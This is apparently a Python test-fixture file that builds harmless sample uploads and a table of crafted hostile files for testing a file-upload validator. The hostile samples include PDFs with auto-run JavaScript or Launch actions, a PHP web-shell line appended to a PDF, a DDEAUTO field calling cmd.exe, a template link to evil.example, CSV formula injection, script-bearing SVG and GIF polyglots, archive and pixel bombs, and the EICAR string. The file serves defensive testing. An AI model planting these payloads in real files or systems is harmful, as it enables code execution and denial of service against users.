"""Files that come in: good ones, and a pack of such as nobody should keep (name, code, bytes)."""

import io
import zipfile
import zlib

from PIL import Image, PngImagePlugin

from tests.files.hostile import packed, parts, workbook

CANARY = b"canary-35.68N-139.69E"


def pdf(extra: bytes = b"", body: bytes = b"", tail: bytes = b"", pages: int = 1) -> bytes:
    """A small PDF whose catalogue carries `extra`, with `body` among its objects."""
    kids = b"".join(
        b"%d 0 obj\n<< /Type /Page /Parent 2 0 R >>\nendobj\n" % n for n in range(10, 10 + pages)
    )
    return (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + extra + b" >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [10 0 R] /Count 1 >>\nendobj\n"
        + kids
        + body
        + b"trailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n"
        + tail
    )


def pdf_saying(text: str) -> bytes:
    """A PDF of one page that says this, in Latin letters."""
    font = b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
    shown = f"BT /F1 12 Tf 50 800 Td ({text}) Tj ET".encode("ascii")
    body = b"11 0 obj\n<< /Length %d >>\nstream\n%b\nendstream\nendobj\n" % (len(shown), shown)
    page = b"/MediaBox [0 0 595 842] /Contents 11 0 R /Resources " + font
    return pdf(body=body).replace(b"/Type /Page ", b"/Type /Page " + page + b" ", 1)


def object_stream(
    content: bytes, more: bytes = b"/Filter /FlateDecode", *, pack: bool = True
) -> bytes:
    inside = zlib.compress(content) if pack else content
    return (
        b"9 0 obj\n<< /Type /ObjStm /N 1 /First 4 "
        + more
        + b" /Length %d >>\nstream\n" % len(inside)
        + inside
        + b"\nendstream\nendobj\n"
    )


def picture(kind: str, size: tuple[int, int] = (40, 30), **options) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "navy").save(out, format=kind, **options)
    return out.getvalue()


def jpeg_with_place() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = CANARY.decode()
    return picture("JPEG", exif=exif.tobytes(), comment=CANARY)


def png_with_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", CANARY.decode())
    return picture("PNG", pnginfo=info)


def document(**more: bytes) -> bytes:
    """A Word document with a line of text, and the parts given."""
    found = {
        "[Content_Types].xml": b'<Types><Override PartName="/word/document.xml"/></Types>',
        "_rels/.rels": b"<Relationships/>",
        "word/document.xml": "<w:document><w:t>提携書</w:t></w:document>".encode(),
    }
    found |= {name.replace("__", "/"): content for name, content in more.items()}
    return packed(found)


def sheet_with(name: str, content: bytes) -> bytes:
    return packed({**parts(workbook()), name: content})


def pixel_flood() -> bytes:
    """A PNG of a few bytes that says to have 3,600 megapixels."""
    good = picture("PNG")
    size = (60_000).to_bytes(4, "big")
    head = b"IHDR" + size + size + good[24:29]
    return good[:12] + head + zlib.crc32(head).to_bytes(4, "big") + good[33:]


def bomb() -> bytes:
    return sheet_with("xl/worksheets/sheet9.xml", b" " * 60_000_000)


def encrypted_archive() -> bytes:
    data = bytearray(document())
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 1)
    return bytes(data)


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as found:
        found.writestr("a.txt", "a")
    return out.getvalue()


def linked_template() -> bytes:
    relation = (
        b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" '
        b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return document(**{"word___rels__settings.xml.rels": relation})


GOOD = {
    "計画書.pdf": pdf(),
    "写真.jpg": jpeg_with_place(),
    "図.png": png_with_text(),
    "一覧.xlsx": workbook(),
    "提携書.docx": document(),
    "メモ.txt": "電話での回答\r\n以上".encode("cp932"),
    "一覧.csv": "団体,人数,電話\r\n西条市,-3,+81 897 56 5151\r\n".encode("utf-8-sig"),
}

JAVASCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
HOSTILE = {
    "nothing": ("a.pdf", "empty", b""),
    "pdf with a script": ("a.pdf", "pdf_active", pdf(b"/OpenAction " + JAVASCRIPT)),
    "pdf with a script under another spelling": (
        "a.pdf",
        "pdf_active",
        pdf(b"/OpenAction << /S /J#61vaScr#69pt /JS (x) >>"),
    ),
    "pdf that starts a program": ("a.pdf", "pdf_active", pdf(b"/OpenAction << /S /Launch >>")),
    "pdf with a script in an object stream": (
        "a.pdf",
        "pdf_active",
        pdf(body=object_stream(b"5 0 " + JAVASCRIPT)),
    ),
    "pdf with an object stream that says to be a page": (
        "a.pdf",
        "pdf_active",
        pdf(body=object_stream(b"5 0 " + JAVASCRIPT, b"/X (obj) /Filter /FlateDecode")),
    ),
    "pdf with objects packed in a rare way": (
        "a.pdf",
        "pdf_unreadable",
        pdf(body=object_stream(b"00>", b"/Filter /ASCIIHexDecode", pack=False)),
    ),
    "pdf with objects shifted by a predictor": (
        "a.pdf",
        "pdf_unreadable",
        pdf(body=object_stream(b"x", b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>")),
    ),
    "pdf with a file in it": ("a.pdf", "pdf_embedded", pdf(b"/Names << /EmbeddedFiles 3 0 R >>")),
    "pdf under a password": ("a.pdf", "encrypted", pdf(body=b"<< /Encrypt 4 0 R >>\n")),
    "pdf of 51 pages": ("a.pdf", "too_many_pages", pdf(pages=51)),
    "pdf that unpacks without end": (
        "a.pdf",
        "bomb",
        pdf(body=object_stream(b" " * 510_000_000)),
    ),
    "pdf cut off": ("a.pdf", "damaged", pdf()[:60]),
    "pdf and web page": ("a.pdf", "two_things", pdf(body=b"<script>alert(1)</script>")),
    "pdf and archive": ("a.pdf", "two_things", pdf() + archive()),
    "pdf with bytes behind it": ("a.pdf", "two_things", pdf(tail=b"<?php system($_GET[0]);")),
    "web page that says to be a pdf": ("a.pdf", "markup", b"<html><script>x</script></html>"),
    "picture that says to be a pdf": ("a.pdf", "wrong_ending", picture("PNG")),
    "pdf that says to be a picture": ("a.png", "wrong_ending", pdf()),
    "workbook that says to be a document": ("a.docx", "wrong_ending", workbook()),
    "picture flood": ("a.png", "too_many_pixels", pixel_flood()),
    "picture cut off": ("a.png", "damaged", picture("PNG")[:60]),
    "jpeg of two bytes": ("a.jpg", "damaged", b"\xff\xd8\xff\xe0"),
    "gif": ("a.gif", "unknown", picture("GIF")),
    "gif with a script": ("a.jpg", "unknown", b"GIF89a\x01\x00\x01\x00=1;alert(1)"),
    "svg": ("a.svg", "markup", b'<svg xmlns="http://www.w3.org/2000/svg" onload="x"/>'),
    "svg as text": ("a.txt", "markup", b"<svg onload=alert(1)>"),
    "xml": ("a.txt", "markup", b'<?xml version="1.0"?><a/>'),
    "program": ("a.exe", "unknown", b"MZ\x90\x00\x03\x00\x00\x00"),
    "program as text": ("a.txt", "unknown", b"MZ\x90\x00\x03\x00\x00\x00"),
    "text with NUL": ("a.txt", "unknown", b"abc\x00def"),
    "text with marks of direction": ("a.txt", "unknown", "a\u202egnp.exe".encode()),
    "text without ending": ("README", "unknown", b"text"),
    "macro workbook": ("a.xlsx", "macros", sheet_with("xl/vbaProject.bin", b"x")),
    "macro document": ("a.docx", "macros", document(**{"word__vbaProject.bin": b"x"})),
    "document with an object": (
        "a.docx",
        "embedded",
        document(**{"word__embeddings__oleObject1.bin": b"x"}),
    ),
    "document with a program as picture": (
        "a.docx",
        "embedded",
        document(**{"word__media__image1.png": b"MZ\x90\x00"}),
    ),
    "document with an outside template": ("a.docx", "links", linked_template()),
    "document that calls a program": (
        "a.docx",
        "links",
        document(**{"word__header1.xml": b"<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>"}),
    ),
    "document with entities": (
        "a.docx",
        "entities",
        document(**{"word__header1.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
    ),
    "document with entities in UTF-16": (
        "a.docx",
        "entities",
        document(**{"word__header1.xml": '<!DOCTYPE a [<!ENTITY b "c">]>'.encode("utf-16")}),
    ),
    "workbook with outside links": (
        "a.xlsx",
        "embedded",
        sheet_with("xl/externalLinks/externalLink1.xml", b"<x/>"),
    ),
    "archive bomb": ("a.xlsx", "bomb", bomb()),
    "archive under a password": ("a.docx", "encrypted", encrypted_archive()),
    "workbook under a password": ("a.xlsx", "old_office", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 9),
    "archive": ("a.zip", "other_archive", archive()),
    "archive that says to be a document": ("a.docx", "other_archive", archive()),
    "document with bytes behind it": ("a.docx", "two_things", document() + b"<script>"),
    "document cut off": ("a.docx", "damaged", document()[:80]),
    "live cell": ("a.csv", "live_cell", "名,値\n西条市,=cmd|'/c calc'!A0\n".encode()),
    "live cell in full width": ("a.csv", "live_cell", "名,＝1+1\n".encode()),
    "live cell with a sign": ("a.csv", "live_cell", b'a,"+cmd|x"\n'),
    "test of scanners": (
        "a.txt",
        "malware",
        b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
    ),
}
